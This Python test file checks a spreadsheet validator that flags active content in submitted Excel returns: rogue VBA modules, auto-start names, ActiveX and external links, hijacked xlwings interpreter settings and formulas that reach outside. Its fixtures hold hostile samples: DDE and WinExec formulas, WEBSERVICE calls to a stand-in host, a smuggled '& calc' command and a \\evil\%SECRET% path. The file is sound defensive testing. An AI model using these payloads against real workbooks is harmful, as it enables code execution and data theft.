"""Macros under our modules' names, settings of the buttons turned to other programs, and all else that can run."""

from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest
from hostile_returns import SHEETS, SHELL, good, hidden_module, our_modules, put_in, with_module, with_project, with_zip
from macro_workbooks import INTERPRETER, macro_return, python_link
from pyopenvba import ExcelFile
from small_council import Q2, rulebook

from kpi_xl.faces.buttons.open_return import _may_look_in as may_look_in
from kpi_xl.faces.buttons.open_return import _workspace as workspace_of
from kpi_xl.files.macros.macro_book import shipped_module
from kpi_xl.files.macros.vba_project import module_name, vba_project
from kpi_xl.files.macros.xlwings_module import vba_module
from kpi_xl.files.reading.read_compressed_vba import inflate_vba
from kpi_xl.model.book import Book, Cell, Kind, Sheet
from kpi_xl.model.finding import Finding
from kpi_xl.model.issued_macros import ISSUED
from kpi_xl.model.macro_text import macro_hash
from kpi_xl.model.master import Master
from kpi_xl.rules.checks.active_content import active_content, formulas_that_reach_out
from kpi_xl.rules.checks.button_settings import settings_not_as_issued
from kpi_xl.workflows.validate import validate

BUTTONS = shipped_module("ReturnButtons")


def found_in(path: Path) -> list[Finding]:
    (checked,) = validate([path], rulebook(), Master(), Q2).checked
    return list(checked.findings)


@pytest.mark.parametrize("code", [vba_module(), shipped_module("NoPython"), BUTTONS], ids=module_name)
def test_what_we_put_into_returns_today_is_known(code: str) -> None:
    known = ISSUED[module_name(code)]
    assert macro_hash(code) in known, f"add {macro_hash(code)!r} to {module_name(code)} in model/issued_macros.py"


SAME = [
    pytest.param(lambda code: code.upper(), id="the case of words"),
    pytest.param(lambda code: code.replace("\n", "\r\n"), id="line ends"),
    pytest.param(lambda code: code.replace("    ", "\t") + "\n\n", id="blanks"),
    pytest.param(lambda code: code.replace("Option", 'Attribute VB_Description = "x"\nOption'), id="attributes"),
]


@pytest.mark.parametrize("change", SAME)
def test_what_excel_changes_as_it_saves_is_no_change(change: Callable[[str], str]) -> None:
    assert macro_hash(change(BUTTONS)) == macro_hash(BUTTONS)


OTHER = [
    pytest.param(lambda code: code.replace("check_my_return", "os.system"), id="a text"),
    pytest.param(lambda code: code.replace("Exit Sub", 'Shell "calc"\nExit Sub', 1), id="a line more"),
    pytest.param(lambda code: code.replace("' The buttons", "Shell 1 ' The buttons"), id="code for a comment"),
    pytest.param(lambda code: code + '\nAttribute x = 1: Shell "calc"\n', id="code after an attribute"),
]


@pytest.mark.parametrize("change", OTHER)
def test_what_does_another_thing_is_another(change: Callable[[str], str]) -> None:
    assert macro_hash(change(BUTTONS)) != macro_hash(BUTTONS)


@pytest.mark.parametrize(
    ("code", "nothing"),
    [
        ("", True),
        ('Attribute VB_Name = "Sheet1"\r\nOption Explicit\r\n', True),
        ("' a note\n", True),
        ("' a note that goes on _\nShell 1\n", False),
        ("Option Explicit: Shell 1\n", False),
    ],
)
def test_code_that_does_nothing_is_no_code(code: str, nothing: bool) -> None:
    assert (macro_hash(code) == "") is nothing


def test_compressed_code_is_read_as_its_specification_says() -> None:
    """The three worked examples of MS-OVBA, section 3.2."""
    plain = bytes.fromhex("01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E")
    normal = bytes.fromhex(
        "01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70"
        "04 10 72 73 74 75 76 10 77 78 79 7A 00 3C"
    )
    most = bytes.fromhex("01 03 B0 02 61 45 00")
    assert inflate_vba(plain) == b"abcdefghijklmnopqrstuv."
    assert inflate_vba(normal) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    assert inflate_vba(most) == b"a" * 73


def anew(*more: str, on_open: str = "") -> Callable[[Path], Path]:
    return lambda path: with_project(path, vba_project([*our_modules(), *more], SHEETS, on_open))


def other_code(name: str) -> Callable[[Path], Path]:
    """Our module's name, another's code."""
    codes = [code for code in our_modules() if module_name(code) != name]
    bad = f'Attribute VB_Name = "{name}"\nSub CheckMyReturn()\n    Shell "calc"\nEnd Sub\n'
    return lambda path: with_project(path, vba_project([*codes, bad], SHEETS))


DRAWING = "xl/drawings/vmlDrawing1.vml"
HOSTILE = [
    pytest.param(anew(on_open=SHELL), "ThisWorkbook", id="Workbook_Open in our own project"),
    pytest.param(other_code("ReturnButtons"), "ReturnButtons", id="other code as ReturnButtons"),
    pytest.param(other_code("xlwings"), "xlwings", id="other code as xlwings"),
    pytest.param(other_code("NoPython"), "NoPython", id="other code as NoPython"),
    pytest.param(anew('Attribute VB_Name = "Module1"\nSub Auto_Open()\nEnd Sub\n'), "Module1", id="a module more"),
    pytest.param(hidden_module, "Evil", id="a module left out of the list"),
    pytest.param(
        lambda path: with_module(path, "Sheet3", lambda _: "Sub Worksheet_Activate()\nShell 1\nEnd Sub\n"),
        "Sheet3",
        id="code of a sheet",
    ),
    pytest.param(lambda path: with_zip(path, {"xl/activeX/activeX1.bin": b"x"}), "activeX1.bin", id="ActiveX"),
    pytest.param(lambda path: with_zip(path, {"xl/embeddings/o.bin": b"x"}), "o.bin", id="OLE object"),
    pytest.param(lambda path: with_zip(path, {"xl/macrosheets/sheet1.xml": "<x/>"}), "sheet1.xml", id="XLM macros"),
    pytest.param(lambda path: with_zip(path, {"customUI/customUI14.xml": "<x/>"}), "customUI14", id="ribbon"),
    pytest.param(lambda path: with_zip(path, {"xl/connections.xml": "<x/>"}), "connections", id="connection"),
    pytest.param(lambda path: with_zip(path, {"xl/queryTables/query1.xml": "<x/>"}), "query1", id="web query"),
    pytest.param(
        lambda path: with_zip(path, {DRAWING: lambda text: text.replace("[0]!CheckMyReturn", r"'\\x\y.xlsm'!Go")}),
        "y.xlsm",
        id="a button that runs another file's macro",
    ),
    pytest.param(
        lambda path: with_zip(
            path, {"xl/workbook.xml": put_in("</definedNames>", "<definedName name='Auto_Open'>A!$A$1</definedName>")}
        ),
        "Auto_Open",
        id="a name that starts itself",
    ),
    pytest.param(
        lambda path: with_zip(
            path,
            {
                "xl/_rels/workbook.xml.rels": put_in(
                    "</Relationships>",
                    '<Relationship Id="q" Type="http://x/image" Target="\\\\x\\i.png" TargetMode="External"/>',
                )
            },
        ),
        "i.png",
        id="a picture to fetch",
    ),
]


@pytest.mark.slow
@pytest.mark.parametrize(("change", "named"), HOSTILE)
def test_what_can_run_is_told_and_the_figures_still_count(
    tmp_path: Path, change: Callable[[Path], Path], named: str
) -> None:
    findings = [one for one in found_in(change(good(tmp_path))) if one.code == "KPI167"]
    assert [named in str(one.facts["found"]) for one in findings] == [True]


@pytest.mark.slow
def test_a_project_read_and_written_by_another_program_stays_ours(tmp_path: Path) -> None:
    path = good(tmp_path)
    with ExcelFile(path) as book:
        book.vba_project().get_module("ReturnButtons").body = shipped_module("ReturnButtons").partition("\n")[2].upper()
        book.save()
    assert found_in(path) == []


def settings(**changed: object) -> Sheet:
    """The settings as issued, with some changed; None takes one away."""
    issued = {
        "INTERPRETER_WIN": INTERPRETER,
        "ADD_WORKBOOK_TO_PYTHONPATH": "False",
        "USE UDF SERVER": "True",
        "SHOW_ERROR_POPUPS": "True",
    }
    said = {name: value for name, value in (issued | changed).items() if value is not None}
    rows = {
        row: {column: Cell(row, column, Kind.TEXT, text) for column, text in ((1, name), (2, value))}
        for row, (name, value) in enumerate(said.items(), start=1)
    }
    return Sheet("xlwings.conf", rows, "hidden")


ISSUED_SETTINGS = {
    "INTERPRETER_WIN": frozenset({r"\\council\python\pythonw.exe"}),
    "KPI_XL_WORKSPACE": frozenset({r"\\council\performance"}),
}
USERS = "C:\\" + "Users"
SETTINGS = [
    pytest.param(settings(), {}, [], id="as issued"),
    pytest.param(settings(INTERPRETER_WIN=None), {}, [], id="no interpreter"),
    pytest.param(settings(INTERPRETER_WIN=r"\\evil\share\pythonw.exe"), {}, ["B1"], id="another machine"),
    pytest.param(settings(INTERPRETER_WIN="//evil/share/python.exe"), {}, ["B1"], id="the other slashes"),
    pytest.param(settings(INTERPRETER_WIN=r"\\council\python\pythonw.exe"), ISSUED_SETTINGS, [], id="our own share"),
    pytest.param(settings(INTERPRETER_WIN=r"S:\submissions\python.exe"), {}, ["B1"], id="a drive that may be a share"),
    pytest.param(settings(INTERPRETER_WIN=USERS + r"\Public\python.exe"), {}, ["B1"], id="a place for everybody"),
    pytest.param(settings(INTERPRETER_WIN=r"%LOCALAPPDATA%\Temp\python.exe"), {}, ["B1"], id="a place for downloads"),
    pytest.param(settings(INTERPRETER_WIN=r"%LOCALAPPDATA%\..\x\python.exe"), {}, ["B1"], id="a way round"),
    pytest.param(settings(INTERPRETER_WIN=r"%USERPROFILE%\kpi\pythonw.exe"), {}, [], id="the user's own folder"),
    pytest.param(settings(INTERPRETER_WIN=r"%USERPROFILE%\Downloads\python.exe"), {}, ["B1"], id="downloads"),
    pytest.param(settings(INTERPRETER_WIN=r"%COMSPEC%"), {}, ["B1"], id="another program"),
    pytest.param(settings(INTERPRETER_WIN='C:\\Python312\\python.exe" & calc'), {}, ["B1"], id="a command behind it"),
    pytest.param(settings(INTERPRETER_WIN=USERS + r"\jo\AppData\Local\kpi_xl\pythonw.exe"), {}, [], id="own"),
    pytest.param(settings(PYTHONPATH=r"\\evil\share"), {}, ["B5"], id="a folder of modules"),
    pytest.param(settings(**{"UDF MODULES": "evil"}), {}, ["B5"], id="a module to load"),
    pytest.param(settings(**{"CONDA PATH": r"C:\x"}), {}, ["B5"], id="another start"),
    pytest.param(settings(INTERPRETER=r"\\evil\python.exe"), {}, ["B5"], id="the older name"),
    pytest.param(settings(ADD_WORKBOOK_TO_PYTHONPATH="TRUE"), {}, ["B2"], id="the folder beside it"),
    pytest.param(settings(ADD_WORKBOOK_TO_PYTHONPATH=None), {}, ["A1"], id="the folder beside it, by leaving out"),
    pytest.param(settings(SHAREPOINT_WIN=r"\\evil\share"), {}, ["B5"], id="a folder xlwings adds"),
    pytest.param(settings(SHAREPOINT_WIN=r"%USERPROFILE%\Council\Performance"), {}, [], id="a synced folder"),
    pytest.param(settings(KPI_XL_WORKSPACE=r"\\evil\share"), ISSUED_SETTINGS, ["B5"], id="another rulebook"),
    pytest.param(settings(KPI_XL_WORKSPACE=r"\\council\performance"), ISSUED_SETTINGS, [], id="our rulebook"),
    pytest.param(settings(KPI_XL_WORKSPACE=r"\\evil\share"), {}, ["B5"], id="a rulebook elsewhere, ours unknown"),
]


@pytest.mark.parametrize(("sheet", "issued", "cells"), SETTINGS)
@pytest.mark.parametrize("name", ["xlwings.conf", "XLWINGS.CONF", "_xlwings.conf"])
def test_settings_that_start_something_else_are_told_at_their_cells(
    sheet: Sheet, issued: dict[str, frozenset[str]], cells: list[str], name: str
) -> None:
    book = Book("r.xlsm", "", 0, (Sheet(name, sheet.rows, "hidden"),))
    findings = list(settings_not_as_issued(book, issued))
    assert [(one.code, [place.cell for place in one.places]) for one in findings] == [("KPI167B", [at]) for at in cells]


def test_a_setting_that_a_formula_works_out_is_told() -> None:
    cells = {1: Cell(1, 1, Kind.TEXT, "USE UDF SERVER"), 2: Cell(1, 2, Kind.TEXT, "True", formula="A9")}
    (first,) = settings_not_as_issued(Book("r.xlsm", "", 0, (Sheet("xlwings.conf", {1: cells}),)), {})
    assert "formula" in first.message


@pytest.mark.slow
def test_a_changed_setting_is_told_in_a_return_that_was_sent(tmp_path: Path) -> None:
    path = macro_return(tmp_path / "AS Adult Services 2022-23 Q2.xlsm", link=python_link(r"\\evil\share\python.exe"))
    (finding,) = found_in(path)
    assert (finding.code, str(finding.place)) == ("KPI167B", "'xlwings.conf'!B1")


FORMULAS = [
    ("cmd|'/c calc'!A0", True),
    ("cmd|'/c calc'!'A0'", True),
    ("MSEXCEL|'\\..\\..\\x'!'_'", True),
    ('_xlfn.WEBSERVICE("http://x/"&A1)', True),
    ('_xlfn.IMAGE("http://x/i.png")', True),
    ('CALL("kernel32","WinExec","JC","calc")', True),
    ('1+RTD("x",,"y")', True),
    ('IF(A1="a|b!c","cmd|x!y",1)', False),
    ("MYIMAGE(1)+SUM(A1:A3)", False),
    ('HYPERLINK("#A1","CALL(us)")', False),
]


@pytest.mark.parametrize(("formula", "told"), FORMULAS)
def test_formulas_that_ask_outside_are_told_at_their_cell(formula: str, told: bool) -> None:
    rows = {3: {2: Cell(3, 2, Kind.NUMBER, 1.0, formula=formula)}}
    findings = list(formulas_that_reach_out(Book("r.xlsx", "", 0, (Sheet("Return", rows),))))
    assert [str(one.place) for one in findings] == (["Return!B3"] if told else [])


@pytest.mark.parametrize("name", ["Auto_Open", "auto_open", "_xlnm.Auto_Open", "Sheet1!Auto_Close", "AutoOpen"])
def test_names_that_start_themselves_are_told(name: str) -> None:
    (finding,) = active_content(Book("r.xlsx", "", 0, (), names={name: "A!$A$1"}))
    assert finding.code == "KPI167"


ASKED = [
    (r"\\evil\share", True),
    ("//evil/share", True),
    (r"\\evil@443\dav", True),
    ("https://evil/x", True),
    (r"S:\Performance", False),
    ("/mnt/council", False),
]


@pytest.mark.parametrize(("folder", "asked"), ASKED)
def test_a_button_looks_on_another_machine_only_where_the_user_agrees_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, folder: str, asked: bool
) -> None:
    monkeypatch.setenv("KPI_XL_LOG", str(tmp_path / "log" / "kpi_xl.log"))
    questions: list[str] = []
    answers = ["cancel", "ok"]

    def alert(prompt: str, *_: object, **__: object) -> str:
        questions.append(prompt)
        return answers[len(questions) - 1]

    book = SimpleNamespace(app=SimpleNamespace(alert=alert))
    said = [may_look_in(book, folder) for _ in range(3)]  # type: ignore[arg-type] # all that is asked of a book
    assert (said, len(questions)) == (([False, True, True], 2) if asked else ([True] * 3, 0))


def test_no_variable_is_carried_to_another_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KPI_XL_LOG", str(tmp_path / "kpi_xl.log"))
    monkeypatch.setenv("SECRET", "s3cret")
    asked: list[str] = []
    cells = [["KPI_XL_WORKSPACE", r"\\evil\%SECRET%"]]
    sheet = SimpleNamespace(range=lambda _: SimpleNamespace(value=cells))
    app = SimpleNamespace(alert=lambda prompt, *_, **__: asked.append(prompt) or "ok")
    book = SimpleNamespace(app=app, sheet_names=["xlwings.conf"], sheets={"xlwings.conf": sheet})
    assert "s3cret" not in str(workspace_of(book))  # type: ignore[arg-type] # all that is asked of a book
    assert len(asked) == 1


@pytest.mark.slow
@pytest.mark.parametrize("part", ["xl/drawings/drawing9.xml", "xl/drawings/_rels/drawing9.xml.rels"])
def test_a_damaged_part_nobody_needs_refuses_no_return(tmp_path: Path, part: str) -> None:
    assert found_in(with_zip(good(tmp_path), {part: b"<not xml"})) == []
